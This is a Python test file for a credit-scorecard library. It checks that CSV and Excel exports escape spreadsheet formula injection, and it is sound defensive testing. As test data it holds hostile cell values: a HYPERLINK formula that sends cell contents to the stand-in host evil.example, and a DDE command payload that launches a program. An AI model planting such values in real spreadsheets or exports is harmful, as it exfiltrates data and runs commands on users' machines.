"""The scorecard export (CSV and XLSX) of a model trained on a file whose column name and
source start a formula: read back, no cell is a formula (issue 11, finding 5)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
from openpyxl import Workbook, load_workbook

from forbear.domain.scoring.artefact import ModelKind
from forbear.domain.scoring.export import write_csv, write_excel
from forbear.domain.scoring.scorecard import train_scorecard

from .conftest import CREATED, TARGET

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
NAME = "=cmd|' /C calc'!A0"
SOURCE = "@SUM(1+1)"


def _trained(german_credit: pl.DataFrame):  # type: ignore[no-untyped-def]
    frame = german_credit.rename({german_credit.columns[0]: EVIL})
    artefact, _ = train_scorecard(
        frame, TARGET, kind=ModelKind.APPLICATION, name=NAME, source=SOURCE,
        created_at=CREATED, seed=42,
    )  # fmt: skip
    assert EVIL in [f.name for f in artefact.features]
    return artefact


def test_the_xlsx_export_writes_no_formula(german_credit: pl.DataFrame, tmp_path: Path) -> None:
    path = write_excel(_trained(german_credit), tmp_path / "card.xlsx")
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + EVIL in texts and "'" + NAME in texts and "'" + SOURCE in texts
    numbers = [c.value for c in wb["Scorecard"]["J"][1:]]  # points: still numbers
    assert numbers and all(isinstance(v, int | float) for v in numbers)
    assert any(v < 0 for v in (c.value for c in wb["Scorecard"]["H"][1:]))  # negative WoE


def test_the_csv_export_writes_no_formula(german_credit: pl.DataFrame, tmp_path: Path) -> None:
    path = write_csv(_trained(german_credit), tmp_path / "card.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    sheet = Workbook().active
    assert sheet is not None
    for r, row in enumerate(rows, start=1):  # opened as a spreadsheet program would
        for c, value in enumerate(row, start=1):
            assert sheet.cell(row=r, column=c, value=value).data_type != "f", value
    assert sorted({row[0] for row in rows[1:] if "HYPERLINK" in row[0]}) == ["'" + EVIL]
    assert any(row[7].startswith("-") for row in rows[1:])  # negative WoE stays a number
